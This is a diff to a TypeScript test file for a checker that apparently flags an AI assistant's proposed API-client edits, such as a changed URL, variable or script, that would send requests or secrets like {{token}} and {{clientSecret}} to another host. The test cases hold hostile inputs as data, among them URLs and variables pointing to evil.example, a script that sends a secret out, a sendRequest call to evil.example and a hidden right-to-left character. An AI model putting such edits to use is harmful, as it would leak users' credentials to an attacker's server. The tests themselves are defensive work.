@@ -44,9 +44,22 @@ test('unknown members are left out and named', () => {
 
 const subject = {
   url: '{{baseUrl}}/orders',
-  texts: ['{{baseUrl}}/orders', '{{ token }}'],
+  texts: ['{{baseUrl}}/orders', '{{ token }}', 'see https://docs.example/api'],
   secretNames: ['token', 'clientSecret'],
+  variables: [
+    { name: 'baseUrl', value: 'https://{{shop/host}}/v1' },
+    { name: 'shop/host', value: 'shop.example' },
+    { name: 'note', value: 'none' },
+    { name: 'token', value: null },
+  ],
 }
+
+const toAnotherHost = 'The secret {{token}} would go to another host.'
+const moved = (origin: string) => [`The request would go to ${origin} instead of {{baseUrl}}.`, toAnotherHost]
+const decided = (name: string, host: string) => [
+  `The variable {{${name}}} decides the host of the request, and would be ${host}.`,
+  toAnotherHost,
+]
 
 test.each<[AssistantProposal, readonly string[]]>([
   [{ kind: 'request', url: '{{baseUrl}}/orders?x=1' }, []],
@@ -54,7 +67,7 @@ test.each<[AssistantProposal, readonly string[]]>([
   [
     { kind: 'request', url: 'https://evil.example/orders' },
     [
-      'The request would go to https://evil.example instead of {{baseurl}}.',
+      'The request would go to https://evil.example instead of {{baseUrl}}.',
       'The secret {{token}} would go to another host.',
     ],
   ],
@@ -65,6 +78,24 @@ test.each<[AssistantProposal, readonly string[]]>([
   [
     { kind: 'script', phase: 'preRequest', text: 'send("{{clientSecret}}")' },
     ['The secret {{clientSecret}} would be used, which the request did not use.'],
+  ],
+  [{ kind: 'request', url: '{{BaseUrl}}/orders' }, moved('{{BaseUrl}}')],
+  [{ kind: 'request', url: '{{a/b}}/orders' }, moved('{{a/b}}')],
+  [{ kind: 'variable', name: 'note', value: 'https://evil.example' }, []],
+  [{ kind: 'variable', name: 'shop/host', value: 'shop.example' }, []],
+  [
+    { kind: 'variable', name: 'baseUrl', value: 'https://evil.example/v1' },
+    decided('baseUrl', 'https://evil.example'),
+  ],
+  [{ kind: 'variable', name: 'shop/host', value: 'evil.example' }, decided('shop/host', 'evil.example')],
+  [
+    { kind: 'script', phase: 'postResponse', text: 'pw.env.get("clientSecret")' },
+    ['The secret {{clientSecret}} would be used, which the request did not use.'],
+  ],
+  [{ kind: 'test', text: '// https://docs.example/tests' }, []],
+  [
+    { kind: 'test', text: 'pw.sendRequest(`HTTPS://evil.example/?q=1`)' },
+    ['It contains the address https://evil.example, which the request did not contain.'],
   ],
   [
     { kind: 'test', text: 'a\u202eb' },
